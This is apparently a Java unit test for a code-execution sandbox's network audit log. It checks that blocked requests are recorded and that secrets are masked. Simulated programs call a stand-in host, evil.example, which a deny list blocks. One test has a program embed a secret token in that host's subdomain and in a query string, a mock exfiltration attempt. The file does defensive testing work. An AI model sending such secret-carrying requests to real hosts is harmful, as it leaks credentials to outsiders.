package io.isol8.engine;

import static io.isol8.engine.EngineFixture.request;
import static io.isol8.engine.HttpTalk.write;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.tuple;

import io.isol8.domain.ErrorCode;
import io.isol8.domain.ExecutionRequest;
import io.isol8.domain.Isol8Options;
import io.isol8.domain.NetworkEntry;
import io.isol8.domain.NetworkMode;
import io.isol8.domain.NetworkPolicy;
import io.isol8.domain.audit.AuditDetail;
import io.isol8.domain.audit.AuditRecord;
import io.isol8.domain.pool.PoolPolicy;
import io.isol8.ports.ExecutionOrder;
import io.isol8.testkit.FakeImageCatalog;
import io.isol8.testkit.InMemoryAuditSink;
import io.isol8.testkit.InMemoryContainerRuntime;
import io.isol8.testkit.InMemoryEgressConnector;
import io.isol8.testkit.RecordingProgress;
import io.isol8.testkit.Script;
import io.isol8.testkit.TestClock;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** What is written down of what programs asked of the network (spec 19.9, 21.5). */
final class NetworkAuditTest {

    private final TestClock clock = new TestClock();
    private final InMemoryContainerRuntime containers = new InMemoryContainerRuntime(clock);
    private final InMemoryEgressConnector internet = new InMemoryEgressConnector();
    private final InMemoryAuditSink sink = new InMemoryAuditSink();
    private final AuditTrail trail = AuditTrail.to(sink, AuditDetail.DEFAULT, clock);
    private final LocalService service = new LocalService(
            EngineSettings.defaults().withPooling(PoolPolicy.FRESH),
            EngineParts.of(containers, new FakeImageCatalog(), clock, new RecordingProgress())
                    .withAudit(trail)
                    .withEgress(internet));

    NetworkAuditTest() {
        internet.name("a.example", "203.0.113.5");
        internet.serve("203.0.113.5", 80, tunnel -> write(tunnel, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n"));
        containers.onSource("both", asks("http://a.example/x", "http://evil.example/y"));
        containers.onSource("good", asks("http://a.example/x"));
    }

    @AfterEach
    void close() {
        service.close();
    }

    private static Script asks(String... urls) {
        return run -> {
            for (String url : urls) {
                run.connect().ifPresent(tunnel -> {
                    try (tunnel) {
                        write(tunnel, "GET " + url + " HTTP/1.1\r\nConnection: close\r\n\r\n");
                        tunnel.input().readAllBytes();
                    } catch (IOException e) {
                        throw new UncheckedIOException(e);
                    }
                });
            }
        };
    }

    private static Isol8Options.Builder options() {
        return Isol8Options.builder()
                .network(NetworkMode.FILTERED)
                .networkPolicy(NetworkPolicy.PUBLIC.withLists(Optional.empty(), Optional.of(List.of("evil"))));
    }

    private static ExecutionOrder order(ExecutionRequest request, Isol8Options options) {
        return new ExecutionOrder(request, options, "acme", Optional.empty());
    }

    private AuditRecord only() {
        service.stop();
        trail.flush(Duration.ofSeconds(60));
        service.start();
        assertThat(sink.records()).hasSize(1);
        return sink.records().get(0);
    }

    @Test
    void what_was_blocked_is_told_whoever_wanted_to_know() {
        service.execute(order(request("both"), options().build()));

        AuditRecord.Network network = only().network();
        assertThat(network.blocked())
                .containsExactly(
                        new AuditRecord.SecurityEvent(clock.now(), "GET", "evil.example", "the blacklist has it"));
        assertThat(network.log()).isEmpty();
    }

    @Test
    void what_was_allowed_is_told_if_the_request_wanted_to_know() {
        service.execute(order(request("both"), options().logNetwork(true).build()));

        assertThat(only().network().log().orElseThrow().entries())
                .extracting(NetworkEntry::host, NetworkEntry::action)
                .containsExactly(
                        tuple("a.example", NetworkEntry.Action.ALLOW),
                        tuple("evil.example", NetworkEntry.Action.BLOCK));
    }

    @Test
    void nothing_is_told_where_nothing_was_blocked_and_nobody_wanted_to_know() {
        service.execute(order(request("good"), options().build()));

        assertThat(only().network()).isEqualTo(AuditRecord.Network.NONE);
    }

    @ParameterizedTest
    @EnumSource(names = {"NONE", "HOST"})
    void nothing_is_told_where_there_is_no_filter(NetworkMode mode) {
        service.execute(
                order(request("both"), options().network(mode).logNetwork(true).build()));

        assertThat(only().network()).isEqualTo(AuditRecord.Network.NONE);
    }

    @Test
    void a_setup_that_failed_is_told_with_what_it_was_kept_from() {
        containers.onSource("setup", run -> {
            asks("http://evil.example/").run(run);
            run.exit(1);
        });
        ExecutionRequest request = ExecutionRequest.builder("python")
                .code("good")
                .setupScript("setup")
                .build();

        EngineFixture.assertFails(
                ErrorCode.SETUP_FAILED,
                () -> service.execute(order(request, options().build())));

        assertThat(only().network().blocked())
                .extracting(AuditRecord.SecurityEvent::host)
                .containsExactly("evil.example");
    }

    @Test
    void no_secret_is_told() {
        containers.onSource("leak", asks("http://hunter2.evil.example/", "http://a.example/?q=hunter2"));

        service.execute(order(
                request("leak"),
                options().secret("TOKEN", "hunter2").logNetwork(true).build()));

        assertThat(only().network().toString())
                .contains("***.evil.example", "/?q=***")
                .doesNotContain("hunter2");
    }
}
